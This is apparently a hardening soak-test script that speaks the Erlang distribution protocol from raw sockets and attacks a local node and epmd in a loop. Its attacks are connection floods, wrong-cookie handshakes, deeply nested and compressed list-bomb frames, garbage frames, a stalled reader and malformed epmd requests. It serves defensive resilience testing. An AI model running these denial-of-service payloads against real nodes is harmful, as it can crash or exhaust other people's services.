#!/usr/bin/env python3
"""Hostile peers for scripts/soak: every attack of the hardening work, in a loop, for a while.

Speaks the distribution protocol from raw sockets (epmd lookup, the version-6 handshake with
the md5 challenge, pass-through frames), with nothing but the standard library, so the attacks
do not depend on the code they attack. Each round runs every attack once; the script prints one
line per round and stops after --seconds. It attacks only the node and epmd given to it, on
this machine.
"""
import argparse
import hashlib
import os
import random
import socket
import struct
import sys
import time
import zlib

# Distribution flags: what an OTP 25 node needs to talk to us (hidden: no PUBLISHED).
FLAGS = (0x4 | 0x10 | 0x80 | 0x100 | 0x400 | 0x800 | 0x2000 | 0x4000 | 0x10000 | 0x20000
         | 0x40000 | 0x1000000 | (1 << 34))


def epmd_port(epmd, alive):
    s = socket.create_connection(("127.0.0.1", epmd), timeout=5)
    req = b"z" + alive.encode()
    s.sendall(struct.pack(">H", len(req)) + req)
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    s.close()
    if len(data) < 4 or data[0] != 119 or data[1] != 0:
        raise RuntimeError(f"{alive} is not registered with epmd on port {epmd}")
    return struct.unpack(">H", data[2:4])[0]


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed by the daemon")
        buf += chunk
    return buf


def recv_msg(s):
    (n,) = struct.unpack(">H", recv_exact(s, 2))
    return recv_exact(s, n)


def send_msg(s, body):
    s.sendall(struct.pack(">H", len(body)) + body)


def handshake(port, name, cookie, timeout=10):
    """A completed handshake as node `name`, or ConnectionError (e.g. a wrong cookie)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    send_msg(s, b"N" + struct.pack(">QIH", FLAGS, 1, len(name)) + name.encode())
    status = recv_msg(s)
    if not status.startswith(b"sok"):
        raise ConnectionError(f"status {status!r}")
    ch = recv_msg(s)
    if ch[:1] != b"N":
        raise ConnectionError(f"challenge {ch[:1]!r}")
    challenge = struct.unpack(">I", ch[9:13])[0]
    mine = random.getrandbits(32)
    digest = hashlib.md5((cookie + str(challenge)).encode()).digest()
    send_msg(s, b"r" + struct.pack(">I", mine) + digest)
    ack = recv_msg(s)
    if ack[:1] != b"a":
        raise ConnectionError(f"ack {ack[:1]!r}")
    return s


def atom(a):
    b = a.encode()
    return bytes([119, len(b)]) + b  # SMALL_ATOM_UTF8_EXT


def pid(node, n):
    return bytes([88]) + atom(node) + struct.pack(">III", n, 0, 1)  # NEW_PID_EXT


def reg_send(me, to, payload_body):
    """A pass-through REG_SEND frame: {6, From, '', To} then the payload (already encoded)."""
    ctrl = bytes([131, 104, 4, 97, 6]) + pid(me, 1) + atom("") + atom(to)
    body = b"p" + ctrl + payload_body
    return struct.pack(">I", len(body)) + body


def compressed(inner):
    return bytes([131, 80]) + struct.pack(">I", len(inner)) + zlib.compress(inner, 9)


def deep_tuple(depth):
    return b"\x68\x01" * depth + b"\x6a"  # {{{...[]...}}}


def doit(me, ref_n, mfa_body):
    """{'$gen_cast', {doit, {Pid, Ref}, undefined, MFA}} without the version byte."""
    ref = bytes([90, 0, 3]) + atom(me) + struct.pack(">IIII", 1, ref_n, 0, 0)
    return (bytes([104, 2]) + atom("$gen_cast") + bytes([104, 4]) + atom("doit")
            + bytes([104, 2]) + pid(me, 1) + ref + atom("undefined") + mfa_body)


def attack_idle_flood(port, n):
    socks = []
    for _ in range(n):
        try:
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=2))
        except OSError:
            break
    time.sleep(1.0)
    for s in socks:
        s.close()
    return f"idle={len(socks)}"


def attack_wrong_cookie(port, tries):
    refused = 0
    for i in range(tries):
        try:
            handshake(port, f"guess{i}@127.0.0.1", "not-the-cookie", timeout=3).close()
        except (OSError, ConnectionError):
            refused += 1
    return f"wrong_cookie_refused={refused}/{tries}"


_BOMB = []


def list_bomb():
    """30,000,000 empty lists in one list, compressed to about 30 KB (built once)."""
    if not _BOMB:
        n = 30_000_000
        _BOMB.append(compressed(bytes([108]) + struct.pack(">I", n) + b"\x6a" * n + b"\x6a"))
    return _BOMB[0]


def attack_frames(port, cookie, node_alive):
    """Authenticated hostile frames, each on a fresh connection: deep terms, a memory bomb,
    garbage, a deep doit, a stalled reader."""
    me = f"hostile{random.randrange(1 << 30)}@127.0.0.1"
    results = []
    frames = {
        "deep_regsend": reg_send(me, "no_such_name", compressed(deep_tuple(1_000_000))),
        "deep_doit": reg_send(me, "rexi_server", compressed(
            doit(me, 7, bytes([104, 3]) + atom("rexi_node") + atom("echo")
                 + bytes([108]) + struct.pack(">I", 1) + deep_tuple(1_000_000) + b"\x6a"))),
        "list_bomb": reg_send(me, "no_such_name", list_bomb()),
        "garbage": struct.pack(">I", 64) + b"p" + os.urandom(63),
    }
    for what, frame in frames.items():
        try:
            s = handshake(port, me, cookie)
            s.sendall(frame)
            s.settimeout(3)
            try:
                while s.recv(65536):
                    pass
                results.append(f"{what}:closed")
            except socket.timeout:
                results.append(f"{what}:open")
            s.close()
        except (OSError, ConnectionError) as e:
            results.append(f"{what}:{type(e).__name__}")
    # A reader that stops reading while asking for big replies.
    try:
        s = handshake(port, me, cookie)
        big = bytes([109]) + struct.pack(">I", 1 << 20) + b"x" * (1 << 20)
        for k in range(64):
            s.sendall(reg_send(me, "rexi_server", bytes([131]) + doit(
                me, 100 + k, bytes([104, 3]) + atom("rexi_node") + atom("echo")
                + bytes([108]) + struct.pack(">I", 1) + big + b"\x6a")))
        time.sleep(2)
        s.close()
        results.append("stalled_reader:sent")
    except (OSError, ConnectionError) as e:
        results.append(f"stalled_reader:{type(e).__name__}")
    return " ".join(results)


def attack_epmd(epmd):
    out = []
    for body in (b"x" * 3000, b"x", b"\x78" + b"\xff" * 20, b"\x6e"):
        try:
            s = socket.create_connection(("127.0.0.1", epmd), timeout=2)
            s.sendall(struct.pack(">H", len(body) & 0xFFFF) + body)
            s.settimeout(2)
            try:
                s.recv(100)
            except socket.timeout:
                pass
            s.close()
            out.append("ok")
        except OSError as e:
            out.append(type(e).__name__)
    return "epmd=" + ",".join(out)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--epmd", type=int, required=True)
    ap.add_argument("--node", required=True, help="alive part of the target, e.g. soak")
    ap.add_argument("--cookie", required=True)
    ap.add_argument("--seconds", type=float, required=True)
    a = ap.parse_args()
    end = time.time() + a.seconds
    rnd = 0
    while time.time() < end:
        rnd += 1
        try:
            port = epmd_port(a.epmd, a.node)
        except (OSError, RuntimeError) as e:
            print(f"attacks round {rnd}: target not found: {e}", flush=True)
            time.sleep(1)
            continue
        parts = [
            attack_idle_flood(port, 300),
            attack_wrong_cookie(port, 5),
            attack_frames(port, a.cookie, a.node),
            attack_epmd(a.epmd),
        ]
        print(f"attacks round {rnd}: " + " ".join(parts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
